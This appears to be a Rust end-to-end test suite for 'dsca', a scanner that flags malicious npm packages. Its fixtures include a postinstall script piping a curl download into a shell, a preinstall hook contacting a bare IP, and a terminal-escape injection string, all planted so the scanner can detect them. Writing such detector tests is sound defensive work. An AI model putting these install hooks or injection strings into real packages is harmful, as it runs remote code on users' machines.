//! `dsca scan` end to end, as a user runs it: the real binary against the local test
//! registry (offline, deterministic), local tarballs and directories. Tests that need the
//! real npm registry run only with DSCA_NETWORK_TESTS=1.

mod common;

use common::{dsca, publish_at, run};
use dsca_test::{PackageBuilder, PublishOptions, TempHome, TestRegistry, network_tests_enabled};
use serde_json::Value;
use std::path::Path;

/// `demo-pkg` 1.0.0 is harmless; 1.1.0 adds a postinstall that pipes a download into a shell.
fn registry_with_demo() -> TestRegistry {
    let registry = TestRegistry::start();
    let base = |version: &str| {
        PackageBuilder::new("demo-pkg", version)
            .manifest_field("description", "A demo package".into())
            .manifest_field("repository", "github:demo/demo-pkg".into())
            .file("index.js", "module.exports = 1;\n")
    };
    publish_at(&registry, base("1.0.0"));
    publish_at(
        &registry,
        base("1.1.0").script("postinstall", "curl -s http://198.51.100.7/x.sh | sh"),
    );
    registry
}

/// Pretty JSON of `value` with the test registry's address (a random port) replaced.
fn redact(registry: &TestRegistry, value: &Value) -> String {
    serde_json::to_string_pretty(value)
        .expect("JSON")
        .replace(registry.url().trim_end_matches('/'), "http://[registry]")
}

fn rules_of(report: &Value) -> Vec<&str> {
    report["findings"]
        .as_array()
        .expect("findings is an array")
        .iter()
        .map(|f| f["rule"].as_str().expect("rule id"))
        .collect()
}

/// `dsca scan --format json SPECS...` against `registry`.
fn scan_json(home: &TempHome, registry: &TestRegistry, specs: &[&str]) -> common::Run {
    run(dsca(home)
        .args(["scan", "--registry", registry.url(), "--format", "json"])
        .args(specs))
}

#[test]
fn scans_a_range_from_the_registry_and_reports_json() {
    let home = TempHome::new();
    let registry = registry_with_demo();
    let out = scan_json(&home, &registry, &["demo-pkg@^1"]);
    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
    let report = out.json();
    assert_eq!(report["package"]["version"], "1.1.0");
    assert_eq!(report["package"]["purl"], "pkg:npm/demo-pkg@1.1.0");
    // A download piped into a shell (high) from a bare address (a destination):
    // independent evidence that agrees.
    assert_eq!(report["verdict"]["level"], "malicious");
    let rules = rules_of(&report);
    for expected in ["DSCA101", "DSCA102", "DSCA103"] {
        assert!(
            rules.contains(&expected),
            "{expected} missing from {rules:?}"
        );
    }
    let redacted = out
        .stdout
        .replace(registry.url().trim_end_matches('/'), "http://[registry]");
    insta::assert_snapshot!("demo_pkg_json", redacted);
}

#[test]
fn fail_on_sets_the_exit_code() {
    let home = TempHome::new();
    let registry = registry_with_demo();
    let scan = |threshold: &str| {
        run(dsca(&home).args([
            "scan",
            "--registry",
            registry.url(),
            "--fail-on",
            threshold,
            "demo-pkg",
        ]))
    };
    assert_eq!(
        scan("high").code,
        1,
        "a high finding reaches --fail-on high"
    );
    assert_eq!(scan("critical").code, 0, "nothing critical");
    let clean = run(dsca(&home).args([
        "scan",
        "--registry",
        registry.url(),
        "--fail-on",
        "low",
        "demo-pkg@1.0.0",
    ]));
    assert_eq!(clean.code, 0, "stdout: {}", clean.stdout);
}

#[test]
fn text_report_is_plain_when_piped_and_coloured_on_request() {
    let home = TempHome::new();
    let registry = registry_with_demo();
    let plain = run(dsca(&home).args(["scan", "--registry", registry.url(), "demo-pkg"]));
    assert!(!plain.stdout.contains('\u{1b}'));
    assert!(plain.stdout.contains("demo-pkg@1.1.0"));
    assert!(plain.stdout.contains("MALICIOUS"));
    assert!(plain.stdout.contains("Next steps:"));
    let coloured = run(dsca(&home).args([
        "scan",
        "--color",
        "always",
        "--registry",
        registry.url(),
        "demo-pkg",
    ]));
    assert!(coloured.stdout.contains('\u{1b}'));
    let no_color = run(dsca(&home)
        .env("NO_COLOR", "1")
        .env("CLICOLOR_FORCE", "1")
        .args(["scan", "--registry", registry.url(), "demo-pkg"]));
    assert!(!no_color.stdout.contains('\u{1b}'), "NO_COLOR wins");
}

#[test]
fn integrity_mismatch_is_an_error_and_a_critical_finding() {
    let home = TempHome::new();
    let registry = TestRegistry::start();
    let wrong = format!("sha512-{}", "A".repeat(86) + "==");
    registry.publish_with(
        PackageBuilder::new("tampered", "1.0.0").build(),
        PublishOptions {
            integrity_override: Some(wrong),
            ..PublishOptions::default()
        },
    );
    let out = scan_json(&home, &registry, &["tampered"]);
    assert_eq!(out.code, 2);
    let report = out.json();
    assert_eq!(report["verdict"]["level"], "malicious");
    assert_eq!(rules_of(&report)[0], "DSCA501");
    assert_eq!(report["findings"][0]["severity"], "critical");
    insta::assert_snapshot!("dsca501_finding", redact(&registry, &report["findings"][0]));
    assert_eq!(report["errors"][0]["code"], "integrity-mismatch");
    assert_eq!(
        out.stderr.lines().count(),
        1,
        "one line on stderr: {}",
        out.stderr
    );
    assert!(out.stderr.contains("integrity"));
    let content = home.cache_dir().join("content");
    let cached = walk_files(&content);
    assert!(
        cached.is_empty(),
        "nothing unverified is cached: {cached:?}"
    );
}

fn walk_files(dir: &Path) -> Vec<String> {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return Vec::new();
    };
    entries
        .flatten()
        .flat_map(|entry| {
            let path = entry.path();
            if path.is_dir() {
                walk_files(&path)
            } else {
                vec![path.display().to_string()]
            }
        })
        .collect()
}

#[test]
fn tarball_without_integrity_is_scanned_but_flagged_and_not_cached() {
    let home = TempHome::new();
    let registry = TestRegistry::start();
    let mut overrides = serde_json::Map::new();
    overrides.insert(
        "dist".into(),
        serde_json::json!({"integrity": null, "shasum": null}),
    );
    registry.publish_with(
        PackageBuilder::new("unhashed", "1.0.0").build(),
        PublishOptions {
            signed: false,
            manifest_overrides: overrides,
            ..PublishOptions::default()
        },
    );
    let out = scan_json(&home, &registry, &["unhashed"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let report = out.json();
    let finding = report["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .find(|f| f["rule"] == "DSCA505")
        .unwrap_or_else(|| panic!("DSCA505 missing: {report}"));
    assert_eq!(finding["severity"], "medium");
    insta::assert_snapshot!("dsca505_finding", redact(&registry, finding));
    assert!(walk_files(&home.cache_dir().join("content")).is_empty());
}

#[test]
fn tampered_signature_is_critical() {
    let home = TempHome::new();
    let registry = TestRegistry::start();
    registry.publish_with(
        PackageBuilder::new("resigned", "1.0.0").build(),
        PublishOptions {
            tamper_signature: true,
            ..PublishOptions::default()
        },
    );
    registry.publish(PackageBuilder::new("signed-ok", "1.0.0").build());
    let out = scan_json(&home, &registry, &["resigned", "signed-ok"]);
    let reports = out.json();
    assert!(rules_of(&reports[0]).contains(&"DSCA502"), "{}", reports[0]);
    assert_eq!(reports[0]["verdict"]["level"], "malicious");
    assert!(
        !rules_of(&reports[1]).contains(&"DSCA502"),
        "{}",
        reports[1]
    );
}

#[test]
fn unknown_package_is_a_one_line_error() {
    let home = TempHome::new();
    let registry = TestRegistry::start();
    let out = run(dsca(&home).args(["scan", "--registry", registry.url(), "no-such-package"]));
    assert_eq!(out.code, 2);
    assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
    assert!(
        out.stderr.contains("no-such-package") && out.stderr.contains("not found"),
        "{}",
        out.stderr
    );
}

#[test]
fn security_placeholder_is_reported_as_malware() {
    let home = TempHome::new();
    let registry = TestRegistry::start();
    registry.publish(
        PackageBuilder::new("evilpkg", "0.0.1-security")
            .manifest_field("description", "security holding package".into())
            .build(),
    );
    let out = scan_json(&home, &registry, &["evilpkg"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let report = out.json();
    assert_eq!(report["verdict"]["level"], "malicious");
    assert!(rules_of(&report).contains(&"DSCA407"));
}

#[test]
fn offline_scans_come_from_the_cache() {
    let home = TempHome::new();
    let registry = registry_with_demo();
    let args = [
        "scan",
        "--registry",
        registry.url(),
        "--format",
        "json",
        "demo-pkg@1.1.0",
    ];
    let online = run(dsca(&home).args(args));
    assert_eq!(online.code, 0, "{}", online.stderr);
    let requests_before = registry.requests().len();
    let offline = run(dsca(&home).args(args).arg("--offline"));
    assert_eq!(offline.code, 0, "{}", offline.stderr);
    assert_eq!(offline.json(), online.json());
    assert_eq!(
        registry.requests().len(),
        requests_before,
        "offline touched the network"
    );

    let empty = TempHome::new();
    let miss = run(dsca(&empty).args([
        "scan",
        "--offline",
        "--registry",
        registry.url(),
        "demo-pkg",
    ]));
    assert_eq!(miss.code, 2);
    assert!(miss.stderr.contains("cache"), "{}", miss.stderr);
}

#[test]
fn project_npmrc_supplies_registry_and_token() {
    let home = TempHome::new();
    let registry = registry_with_demo();
    registry.require_token("s3cret-token");
    let host = registry.url().trim_start_matches("http:");
    home.write_project_npmrc(&format!(
        "registry={}\n{host}:_authToken=${{DEMO_TOKEN}}\n",
        registry.url()
    ));
    let out = run(dsca(&home)
        .env("DEMO_TOKEN", "s3cret-token")
        .args(["scan", "--format", "json", "demo-pkg"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(out.json()["package"]["version"], "1.1.0");
    assert!(
        registry
            .requests()
            .iter()
            .all(|(_, _, auth)| auth.as_deref() == Some("Bearer s3cret-token"))
    );
}

#[test]
fn local_tarball_and_directory_are_scanned_without_a_registry() {
    let home = TempHome::new();
    let tarball = home.project_dir().join("local-1.0.0.tgz");
    std::fs::write(
        &tarball,
        PackageBuilder::new("local", "1.0.0")
            .script(
                "preinstall",
                "node -e \"require('http').get('http://192.0.2.1')\"",
            )
            .build(),
    )
    .expect("write tarball");
    let out = run(dsca(&home).args(["scan", "--format", "json", "./local-1.0.0.tgz"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let report = out.json();
    assert_eq!(report["package"]["name"], "local");
    assert_eq!(report["source"]["kind"], "tarball");
    assert!(
        report["package"]["integrity"]
            .as_str()
            .is_some_and(|i| i.starts_with("sha512-"))
    );
    assert!(rules_of(&report).contains(&"DSCA102"));
    // Every format of the one printer entry point serves dsca scan, markdown included.
    let markdown = run(dsca(&home).args(["scan", "--format", "markdown", "./local-1.0.0.tgz"]));
    assert_eq!(markdown.code, 0, "{}", markdown.stderr);
    assert!(
        markdown
            .stdout
            .starts_with("### dsca scan\n\n1 package scanned, 1 with findings or errors."),
        "{}",
        markdown.stdout
    );
    assert!(markdown.stdout.contains("DSCA102"), "{}", markdown.stdout);

    let dir = home.project_dir().join("unpacked");
    std::fs::create_dir_all(&dir).expect("mkdir");
    std::fs::write(
        dir.join("package.json"),
        r#"{"name": "unpacked", "version": "2.0.0", "scripts": {"prepare": "node build.js"}}"#,
    )
    .expect("write package.json");
    let out = run(dsca(&home).args(["scan", "--format", "json", "./unpacked/"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let report = out.json();
    assert_eq!(report["source"]["kind"], "directory");
    assert_eq!(report["package"]["version"], "2.0.0");
    assert!(
        rules_of(&report).contains(&"DSCA101"),
        "prepare runs for a checkout"
    );
}

#[test]
fn corrupt_tarball_is_a_clear_error() {
    let home = TempHome::new();
    let mut bytes = PackageBuilder::new("cut", "1.0.0")
        .file("a.js", "x".repeat(5000))
        .build();
    bytes.truncate(bytes.len() / 2);
    std::fs::write(home.project_dir().join("cut.tgz"), bytes).expect("write");
    let out = run(dsca(&home).args(["scan", "./cut.tgz"]));
    assert_eq!(out.code, 2);
    assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
    assert!(out.stderr.contains("truncated"), "{}", out.stderr);
}

/// Issue 16: a package dsca could not fully analyse is never `clean`.
#[test]
fn unreadable_package_json_gets_no_clean_verdict() {
    let home = TempHome::new();
    let dir = home.project_dir().join("broken");
    std::fs::create_dir_all(&dir).expect("mkdir");
    std::fs::write(dir.join("package.json"), r#"{ "name": "x", "#).expect("write");
    std::fs::write(dir.join("index.js"), "module.exports = 1;\n").expect("write");

    let out = run(dsca(&home).args(["scan", "--format", "json", "./broken"]));
    assert_eq!(out.code, 2, "{out}");
    let report = out.json();
    assert!(report["verdict"].is_null(), "{report:#}");
    assert_eq!(report["errors"][0]["code"], "manifest", "{report:#}");
    let workspace = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let schema = read_json(&workspace.join("schema/report.schema.json"));
    let errors = validate(&schema, &report);
    assert!(errors.is_empty(), "{errors:#?}");

    let out = run(dsca(&home).args(["scan", "--color", "never", "./broken"]));
    assert_eq!(out.code, 2, "{out}");
    assert!(!out.stdout.contains("CLEAN"), "{out}");
    assert!(!out.stdout.contains("No issues found"), "{out}");
    assert!(out.stdout.contains("could not be fully analysed"), "{out}");
    assert!(out.stdout.contains("package.json cannot be read"), "{out}");
}

/// npm refuses a tarball without package.json; dsca reports an error, never `clean`.
#[test]
fn tarball_without_package_json_is_an_error_without_verdict() {
    let home = TempHome::new();
    let tarball = home.project_dir().join("bare.tgz");
    std::fs::write(
        &tarball,
        PackageBuilder::new("bare", "1.0.0")
            .without_package_json()
            .file("index.js", "module.exports = 1;\n")
            .build(),
    )
    .expect("write tarball");
    let out = run(dsca(&home).args(["scan", "--format", "json", "./bare.tgz"]));
    assert_eq!(out.code, 2, "{out}");
    let report = out.json();
    assert!(report["verdict"].is_null(), "{report:#}");
    assert_eq!(report["errors"][0]["code"], "manifest", "{report:#}");
}

#[test]
fn several_specs_give_a_json_array_in_order() {
    let home = TempHome::new();
    let registry = registry_with_demo();
    let out = scan_json(
        &home,
        &registry,
        &["demo-pkg@1.0.0", "demo-pkg@1.1.0", "nope"],
    );
    assert_eq!(out.code, 2, "one spec failed");
    let reports = out.json();
    let versions: Vec<&Value> = reports
        .as_array()
        .expect("array")
        .iter()
        .map(|r| &r["package"]["version"])
        .collect();
    assert_eq!(
        versions,
        [&Value::from("1.0.0"), &Value::from("1.1.0"), &Value::Null]
    );
    assert!(reports[2]["verdict"].is_null());

    let lines = run(dsca(&home).args([
        "scan",
        "--registry",
        registry.url(),
        "--format",
        "jsonl",
        "demo-pkg@1.0.0",
        "demo-pkg@1.1.0",
    ]));
    assert_eq!(lines.stdout.lines().count(), 2);
    for line in lines.stdout.lines() {
        serde_json::from_str::<Value>(line).expect("each line is a JSON document");
    }
}

fn validate(schema: &Value, document: &Value) -> Vec<String> {
    let validator = jsonschema::options()
        .should_validate_formats(true)
        .build(schema)
        .expect("schema compiles");
    validator
        .iter_errors(document)
        .map(|e| format!("{e} at {}", e.instance_path))
        .collect()
}

fn read_json(path: &Path) -> Value {
    serde_json::from_str(&std::fs::read_to_string(path).expect("read")).expect("JSON")
}

#[test]
fn json_and_sarif_outputs_validate_against_their_schemas() {
    let home = TempHome::new();
    let registry = registry_with_demo();
    let workspace = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let specs = ["demo-pkg@1.0.0", "demo-pkg@1.1.0", "missing-pkg"];

    let json = home.path().join("report.json");
    let out = run(dsca(&home)
        .args([
            "scan",
            "--registry",
            registry.url(),
            "--format",
            "json",
            "--output",
        ])
        .arg(&json)
        .args(specs));
    assert_eq!(out.code, 2);
    assert!(out.stdout.is_empty(), "--output leaves stdout empty");
    let schema = read_json(&workspace.join("schema/report.schema.json"));
    let errors = validate(&schema, &read_json(&json));
    assert!(errors.is_empty(), "{errors:#?}");

    let sarif = home.path().join("report.sarif");
    run(dsca(&home)
        .args([
            "scan",
            "--registry",
            registry.url(),
            "--format",
            "sarif",
            "-o",
        ])
        .arg(&sarif)
        .args(specs));
    let schema =
        read_json(&workspace.join("crates/dsca-report/tests/data/sarif-schema-2.1.0.json"));
    let document = read_json(&sarif);
    let errors = validate(&schema, &document);
    assert!(errors.is_empty(), "{errors:#?}");
    assert_eq!(
        document["runs"][0]["results"].as_array().map(Vec::len),
        Some(rules_of(&read_json(&json)[1]).len())
    );
}

#[test]
fn output_to_an_unwritable_place_fails_without_a_partial_file() {
    let home = TempHome::new();
    let registry = registry_with_demo();
    let target = home.path().join("no-such-dir/report.json");
    let out = run(dsca(&home)
        .args([
            "scan",
            "--registry",
            registry.url(),
            "--format",
            "json",
            "--output",
        ])
        .arg(&target)
        .arg("demo-pkg"));
    assert_eq!(out.code, 2);
    assert!(
        out.stderr.starts_with("dsca: error: cannot write"),
        "{}",
        out.stderr
    );
    assert!(!target.exists());
}

/// `-o` to something that is not a regular file (a named pipe here; /dev/null in real
/// use) writes into it: a rename would put a regular file in its place.
#[test]
fn output_to_a_pipe_writes_into_it() {
    use std::os::unix::fs::FileTypeExt as _;
    let home = TempHome::new();
    let registry = registry_with_demo();
    let fifo = home.path().join("report.fifo");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status();
    if !made.is_ok_and(|s| s.success()) {
        eprintln!("skipped: mkfifo is not available");
        return;
    }
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::read_to_string(fifo).unwrap())
    };
    let out = run(dsca(&home)
        .args(["scan", "--registry", registry.url(), "-f", "json", "-o"])
        .arg(&fifo)
        .arg("demo-pkg"));
    assert_eq!(out.code, 0, "{}", out.stderr);
    // Had dsca renamed a file over the pipe, the reader would wait for ever: give up.
    let waited = std::time::Instant::now();
    while !reader.is_finished() {
        assert!(
            waited.elapsed() < std::time::Duration::from_secs(20),
            "nothing was written into the pipe"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let report: Value = serde_json::from_str(&reader.join().unwrap()).unwrap();
    assert_eq!(report["package"]["name"], "demo-pkg");
    assert!(std::fs::metadata(&fifo).unwrap().file_type().is_fifo());
}

#[test]
fn error_lines_never_carry_terminal_escapes() {
    let home = TempHome::new();
    let out = run(dsca(&home).args(["scan", "\u{1b}]0;pwned\u{7}evil\u{1b}[2J"]));
    assert_eq!(out.code, 2);
    assert!(
        !out.stderr.contains('\u{1b}') && !out.stderr.contains('\u{7}'),
        "{:?}",
        out.stderr
    );
    assert!(
        out.stderr.contains("\\u{1b}"),
        "the escape is shown, not sent: {:?}",
        out.stderr
    );
    assert_eq!(out.stderr.lines().count(), 1);
}

#[test]
fn a_closed_pipe_keeps_the_exit_status() {
    let home = TempHome::new();
    let registry = registry_with_demo();
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("dsca"))
        .envs(home.envs())
        .args([
            "scan",
            "--registry",
            registry.url(),
            "--fail-on",
            "high",
            "demo-pkg",
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn dsca");
    drop(child.stdout.take());
    let status = child.wait().expect("dsca exits");
    assert_eq!(status.code(), Some(1), "--fail-on still decides the status");
}

#[test]
fn bad_arguments_exit_2() {
    let home = TempHome::new();
    assert_eq!(run(dsca(&home).args(["scan"])).code, 2);
    assert_eq!(
        run(dsca(&home).args(["scan", "--fail-on", "severe", "x"])).code,
        2
    );
    assert_eq!(run(dsca(&home).args(["scan", "pkg:pypi/requests"])).code, 2);
    let missing = run(dsca(&home).args(["scan", "./missing.tgz"]));
    assert_eq!(missing.code, 2);
    assert!(missing.stderr.contains("missing.tgz"), "{}", missing.stderr);
}

#[test]
fn rules_lists_every_rule() {
    let home = TempHome::new();
    let out = run(dsca(&home).args(["rules", "--json"]));
    assert_eq!(out.code, 0);
    let rules = out.json();
    let ids: Vec<&str> = rules
        .as_array()
        .expect("array")
        .iter()
        .filter_map(|r| r["id"].as_str())
        .collect();
    for id in [
        "DSCA101", "DSCA501", "DSCA801", "DSCA901", "DSCA951", "DSCA1001",
    ] {
        assert!(ids.contains(&id), "{id} missing from {ids:?}");
    }
    let number = |id: &str| {
        id.trim_start_matches("DSCA")
            .parse::<u32>()
            .expect("numeric id")
    };
    assert!(
        ids.windows(2).all(|w| number(w[0]) < number(w[1])),
        "sorted by number and unique: {ids:?}"
    );
    for id in ["DSCA811", "DSCA1001", "DSCA1009"] {
        assert!(ids.contains(&id), "{id} missing from {ids:?}");
    }
    assert!(
        rules
            .as_array()
            .expect("array")
            .iter()
            .all(|r| r["next_steps"].as_str().is_some_and(|s| !s.is_empty()))
    );

    let capture = run(dsca(&home).args(["rules", "--family", "capture", "-f", "markdown"]));
    assert_eq!(capture.code, 0);
    assert!(
        capture.stdout.starts_with("| id | severity | rule |")
            && capture
                .stdout
                .contains("| DSCA904 | medium | connection-to-unresolved-ip: ")
            && !capture.stdout.contains("DSCA101"),
        "{}",
        capture.stdout
    );
    let text = run(dsca(&home).args(["rules"]));
    assert!(
        text.stdout.contains("dsca_discord_token_grabber"),
        "the text listing ends with the built-in YARA rules"
    );
    let wrong = run(dsca(&home).args(["rules", "--family", "network"]));
    assert_eq!(wrong.code, 2);
}

#[test]
fn network_scans_real_packages() {
    if !network_tests_enabled("network_scans_real_packages") {
        return;
    }
    let home = TempHome::new();
    let out = run(dsca(&home).env_remove("DSCA_NOW").args([
        "scan",
        "--format",
        "json",
        "lodash@4.17.21",
        "express@^4",
        "pkg:npm/%40babel/core@7.24.0",
        "crossenv",
    ]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let reports = out.json();
    assert_eq!(reports[0]["package"]["version"], "4.17.21");
    assert!(
        reports[1]["package"]["version"]
            .as_str()
            .is_some_and(|v| v.starts_with("4."))
    );
    assert_eq!(reports[2]["package"]["name"], "@babel/core");
    assert_eq!(
        reports[3]["verdict"]["level"], "malicious",
        "crossenv is npm's placeholder for malware"
    );
    for report in reports.as_array().expect("array").iter().take(3) {
        assert_ne!(report["verdict"]["level"], "malicious", "{report}");
    }
}

/// `--rules DIR` adds the user's YARA rules to the built-in ones; a broken rule file is
/// one error line naming the file and line, and exit code 2.
#[test]
fn user_yara_rules_report_matches_and_compile_errors() {
    let home = TempHome::new();
    let tarball = home.path().join("beacon-1.0.0.tgz");
    std::fs::write(
        &tarball,
        PackageBuilder::new("beacon", "1.0.0")
            .file(
                "lib/ping.js",
                "fetch('https://canary.corp.invalid/ping');\n",
            )
            .build(),
    )
    .expect("write tarball");
    let rules = home.path().join("rules");
    std::fs::create_dir_all(&rules).expect("rules dir");
    std::fs::write(
        rules.join("corp.yar"),
        "rule corp_canary {\n  meta:\n    description = \"Calls our canary\"\n    severity = \"high\"\n  strings:\n    $h = \"canary.corp.invalid\"\n  condition:\n    $h\n}\n",
    )
    .expect("write rule");

    let plain = run(dsca(&home).args(["scan", "--format", "json"]).arg(&tarball));
    assert_eq!(plain.code, 0, "{}", plain.stderr);
    assert!(!rules_of(&plain.json()).contains(&"DSCA811"));

    let with_rules = run(dsca(&home)
        .args(["scan", "--format", "json", "--fail-on", "high", "--rules"])
        .arg(&rules)
        .arg(&tarball));
    assert_eq!(with_rules.code, 1, "{}", with_rules.stderr);
    let report = with_rules.json();
    assert!(rules_of(&report).contains(&"DSCA811"));
    let message = report["findings"][0]["message"]
        .as_str()
        .unwrap_or_default();
    assert!(message.contains("corp_canary"), "{message}");

    std::fs::write(
        rules.join("corp.yar"),
        "rule corp_canary {\n  strings:\n    $h = \"canary.corp.invalid\"\n  condition:\n    $h and $missing\n}\n",
    )
    .expect("write broken rule");
    let broken = run(dsca(&home)
        .args(["scan", "--rules"])
        .arg(&rules)
        .arg(&tarball));
    assert_eq!(broken.code, 2);
    let lines: Vec<&str> = broken.stderr.lines().collect();
    assert_eq!(lines.len(), 1, "{}", broken.stderr);
    assert!(
        lines[0].contains(&format!("{}:5:", rules.join("corp.yar").display())),
        "{}",
        broken.stderr
    );
}

#[test]
fn sandbox_check_lists_every_requirement_of_dynamic_runs() {
    let home = TempHome::new();
    let out = dsca(&home).args(["sandbox", "check"]).output().unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = stdout.lines().collect();
    for what in [
        "root, or uidmap",
        "user namespaces",
        "strace",
        "iproute2",
        "nftables",
        "node",
        "npm",
        "libfaketime",
    ] {
        assert!(
            lines.iter().any(|l| l.contains(what)
                && (l.starts_with("ok ")
                    || l.starts_with("MISSING ")
                    || l.starts_with("missing "))),
            "{what} missing from:\n{stdout}"
        );
    }
    // Exit 0 when all is there, 1 when something is missing, and the last line says which.
    let missing = lines.iter().filter(|l| l.starts_with("MISSING")).count();
    assert_eq!(
        out.status.code(),
        Some(if missing == 0 { 0 } else { 1 }),
        "{stdout}"
    );
    for line in lines.iter().filter(|l| l.starts_with("MISSING")) {
        assert!(
            line.contains("install") || line.contains("sysctl") || line.contains("root"),
            "{line}"
        );
    }
}
